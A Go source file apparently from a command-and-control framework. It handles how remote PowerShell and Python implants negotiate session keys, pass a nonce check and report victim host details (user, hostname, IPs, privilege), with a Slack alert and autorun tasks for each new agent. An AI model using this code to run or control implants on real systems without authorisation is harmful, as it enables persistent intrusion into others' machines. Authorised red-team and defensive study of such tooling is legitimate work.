package agents

import (
	"fmt"
	"math/big"
	"strconv"
	"strings"

	"github.com/corvusc2/corvus/crypto/agentcrypt"
	"github.com/corvusc2/corvus/events"
	"github.com/corvusc2/corvus/observability"
	"github.com/corvusc2/corvus/packets"
	"github.com/corvusc2/corvus/store"
)

const (
	nonceLen      = 16
	sessionKeyLen = 32

	// Bounds on the textual form of a python agent's DH public.
	minDHPublicDigits = 1000
	maxDHPublicDigits = 2500

	// A serialized RSAKeyValue export is never shorter than this.
	minRSAXMLLen = 400
)

// handleStaging advances one agent through the three-step key negotiation.
// The server keeps no per-handshake state beyond the agent row itself. The
// return value is either protocol bytes for the agent or an "ERROR: ..."
// string the listener relays verbatim.
func (m *Manager) handleStaging(sessionID string, lang packets.Language, meta packets.Meta, encData, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	switch meta {
	case packets.MetaStage0:
		// The listener swaps this marker for the prebuilt stager blob.
		return []byte("STAGE0")
	case packets.MetaStage1:
		return m.handleStage1(sessionID, lang, encData, stagingKey, opts, clientIP)
	case packets.MetaStage2:
		return m.handleStage2(sessionID, encData, opts, clientIP)
	}
	events.Logf(m.events, events.AgentSender(sessionID), true,
		"Invalid staging request packet from %s at %s: %s", sessionID, clientIP, meta)
	return nil
}

func (m *Manager) handleStage1(sessionID string, lang packets.Language, encData, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	events.Logf(m.events, events.AgentSender(sessionID), false,
		"Agent %s from %s posted public key", sessionID, clientIP)

	plain, err := agentcrypt.Open(stagingKey, encData)
	if err != nil {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonHMACFail)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"HMAC verification failed from '%s'", sessionID)
		return []byte("ERROR: HMAC verification failed")
	}

	switch lang {
	case packets.LangPowerShell:
		return m.stage1PowerShell(sessionID, plain, opts, clientIP)
	case packets.LangPython:
		return m.stage1Python(sessionID, plain, stagingKey, opts, clientIP)
	}
	m.obs.Staging(observability.StageResultFail, observability.StageReasonUnsupportedLanguage)
	events.Logf(m.events, events.AgentSender(sessionID), true,
		"Agent %s from %s using an invalid language specification: %s", sessionID, clientIP, lang)
	return []byte(fmt.Sprintf("ERROR: invalid language: %s", lang))
}

func (m *Manager) stage1PowerShell(sessionID string, plain []byte, opts ListenerOptions, clientIP string) []byte {
	keyXML := stripNonPrintable(string(plain))
	if len(keyXML) < minRSAXMLLen || !strings.HasSuffix(keyXML, "</RSAKeyValue>") {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Invalid PowerShell key post format from %s", sessionID)
		return []byte("ERROR: Invalid PowerShell key post format")
	}
	pub, err := agentcrypt.ParseRSAXML(keyXML)
	if err != nil {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Agent %s returned an invalid PowerShell public key", sessionID)
		return []byte("ERROR: Invalid PowerShell public key")
	}
	events.Logf(m.events, events.AgentSender(sessionID), false,
		"Agent %s from %s posted valid PowerShell RSA key", sessionID, clientIP)

	nonce := agentcrypt.RandomNonce(nonceLen)
	sessionKey := agentcrypt.RandomKeyString(sessionKeyLen)

	// The session key never crosses the wire outside this one RSA envelope.
	reply, err := agentcrypt.RSAEncrypt(pub, append([]byte(nonce), sessionKey...))
	if err != nil {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"RSA encryption failed for %s: %v", sessionID, err)
		return []byte("ERROR: Invalid PowerShell public key")
	}

	m.mu.Lock()
	defer m.mu.Unlock()
	if err := m.addAgent(newAgentRow(sessionID, string(packets.LangPowerShell), clientIP, nonce, opts), sessionKey); err != nil {
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Failed to register agent %s: %v", sessionID, err)
		return []byte("ERROR: failed to register agent")
	}
	m.obs.Staging(observability.StageResultOK, observability.StageReasonOK)
	return reply
}

func (m *Manager) stage1Python(sessionID string, plain, stagingKey []byte, opts ListenerOptions, clientIP string) []byte {
	text := strings.TrimSpace(string(plain))
	if len(text) < minDHPublicDigits || len(text) > maxDHPublicDigits {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Invalid Python key post format from %s", sessionID)
		return []byte(fmt.Sprintf("ERROR: Invalid Python key post format from %s", sessionID))
	}
	clientPub, ok := new(big.Int).SetString(text, 10)
	if !ok {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Invalid Python key post format from %s", sessionID)
		return []byte(fmt.Sprintf("ERROR: Invalid Python key post format from %s", sessionID))
	}

	kp, err := agentcrypt.NewDHKeypair()
	if err != nil {
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Keypair generation failed for %s: %v", sessionID, err)
		return []byte("ERROR: key negotiation failed")
	}
	sessionKey, err := agentcrypt.DeriveDHKey(kp.Priv, clientPub)
	if err != nil {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonInvalidKeyFormat)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Invalid Python public key from %s", sessionID)
		return []byte(fmt.Sprintf("ERROR: Invalid Python key post format from %s", sessionID))
	}
	events.Logf(m.events, events.AgentSender(sessionID), true,
		"Agent %s from %s posted valid Python PUB key", sessionID, clientIP)

	nonce := agentcrypt.RandomNonce(nonceLen)
	reply, err := agentcrypt.Seal(stagingKey, []byte(nonce+kp.Pub.String()))
	if err != nil {
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Reply encryption failed for %s: %v", sessionID, err)
		return []byte("ERROR: key negotiation failed")
	}

	m.mu.Lock()
	defer m.mu.Unlock()
	if err := m.addAgent(newAgentRow(sessionID, string(packets.LangPython), clientIP, nonce, opts), sessionKey); err != nil {
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Failed to register agent %s: %v", sessionID, err)
		return []byte("ERROR: failed to register agent")
	}
	m.obs.Staging(observability.StageResultOK, observability.StageReasonOK)
	return reply
}

func (m *Manager) handleStage2(sessionID string, encData []byte, opts ListenerOptions, clientIP string) []byte {
	m.mu.Lock()
	s := m.sessions[sessionID]
	if s == nil {
		m.mu.Unlock()
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"STAGE2 from unknown session %s", sessionID)
		return []byte(fmt.Sprintf("ERROR: sessionID %s not in cache!", sessionID))
	}
	sessionKey := s.sessionKey
	storedNonce := s.row.Nonce
	m.mu.Unlock()

	plain, err := agentcrypt.Open(sessionKey, encData)
	if err != nil {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonHMACFail)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"HMAC verification failed from '%s'", sessionID)
		m.RemoveAgent(sessionID)
		return []byte("ERROR: HMAC verification failed")
	}

	parts := strings.Split(string(plain), "|")
	if len(parts) < 12 {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonMalformedSysinfo)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Agent %s posted invalid sysinfo checkin format: %s", sessionID, plain)
		m.RemoveAgent(sessionID)
		return []byte(fmt.Sprintf("ERROR: Agent %s posted invalid sysinfo checkin format: %s", sessionID, plain))
	}

	got, err := strconv.ParseInt(parts[0], 10, 64)
	want, werr := strconv.ParseInt(storedNonce, 10, 64)
	if err != nil || werr != nil || got != want+1 {
		m.obs.Staging(observability.StageResultFail, observability.StageReasonNonceReplay)
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Invalid nonce returned from %s", sessionID)
		m.RemoveAgent(sessionID)
		return []byte(fmt.Sprintf("ERROR: Invalid nonce returned from %s", sessionID))
	}
	events.Logf(m.events, events.AgentSender(sessionID), false,
		"Nonce verified: agent %s posted valid sysinfo checkin", sessionID)

	domain := strings.TrimSpace(parts[2])
	username := parts[3]
	if domain != "" {
		username = domain + "\\" + parts[3]
	}
	info := Sysinfo{
		Listener:        opts.Name,
		InternalIP:      parts[5],
		Username:        username,
		Hostname:        parts[4],
		OSDetails:       parts[6],
		HighIntegrity:   parts[7] == "True",
		ProcessName:     parts[8],
		ProcessID:       parts[9],
		Language:        parts[10],
		LanguageVersion: parts[11],
	}

	m.mu.Lock()
	s.row.ExternalIP = clientIP
	if err := m.updateSysinfoLocked(sessionID, info); err != nil {
		m.mu.Unlock()
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Failed to persist sysinfo for %s: %v", sessionID, err)
		m.RemoveAgent(sessionID)
		return []byte(fmt.Sprintf("ERROR: failed to persist sysinfo for %s", sessionID))
	}
	row := *s.row
	m.mu.Unlock()
	m.obs.Staging(observability.StageResultOK, observability.StageReasonOK)

	if m.webhook != nil && opts.SlackURL != "" {
		hook := *m.webhook
		hook.URL = opts.SlackURL
		if err := hook.NotifyNewAgent(events.NewAgentInfo{
			Hostname:   info.Hostname,
			InternalIP: info.InternalIP,
			ExternalIP: clientIP,
			Username:   info.Username,
			OSDetails:  info.OSDetails,
			SessionID:  sessionID,
		}); err != nil {
			events.Logf(m.events, events.AgentSender(sessionID), false,
				"WARNING: webhook notification failed: %v", err)
		}
	}

	events.Logf(m.events, events.AgentSender(sessionID), true,
		"Initial agent %s from %s now active", sessionID, clientIP)

	m.mu.Lock()
	m.saveAgentLog(s, formatSysinfo(&row)+"\nAgent "+sessionID+" now active\n")
	m.runAutorunsLocked(sessionID, strings.ToLower(info.Language))
	m.mu.Unlock()

	return []byte("STAGE2: " + sessionID)
}

// newAgentRow builds the fresh row minted at STAGE1 from listener defaults.
func newAgentRow(sessionID, language, clientIP, nonce string, opts ListenerOptions) *store.AgentRow {
	return &store.AgentRow{
		SessionID:    sessionID,
		Language:     language,
		ExternalIP:   clientIP,
		Nonce:        nonce,
		Listener:     opts.Name,
		Delay:        opts.DefaultDelay,
		Jitter:       opts.DefaultJitter,
		Profile:      opts.DefaultProfile,
		KillDate:     opts.KillDate,
		WorkingHours: opts.WorkingHours,
		LostLimit:    opts.DefaultLostLimit,
	}
}

func formatSysinfo(row *store.AgentRow) string {
	var b strings.Builder
	line := func(k, v string) { fmt.Fprintf(&b, "%-18s%s\n", k+":", v) }
	line("Listener", row.Listener)
	line("Internal IP", row.InternalIP)
	line("Username", row.Username)
	line("Hostname", row.Hostname)
	line("OS", row.OSDetails)
	line("High Integrity", strconv.FormatBool(row.HighIntegrity))
	line("Process Name", row.ProcessName)
	line("Process ID", row.ProcessID)
	line("Language", row.Language)
	line("Language Version", row.LanguageVersion)
	return b.String()
}

// stripNonPrintable keeps printable ASCII plus whitespace, matching the
// filtering the PowerShell agent's key export needs.
func stripNonPrintable(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		if (c >= 0x20 && c < 0x7f) || c == '\t' || c == '\n' || c == '\r' || c == '\v' || c == '\f' {
			b.WriteByte(c)
		}
	}
	return b.String()
}
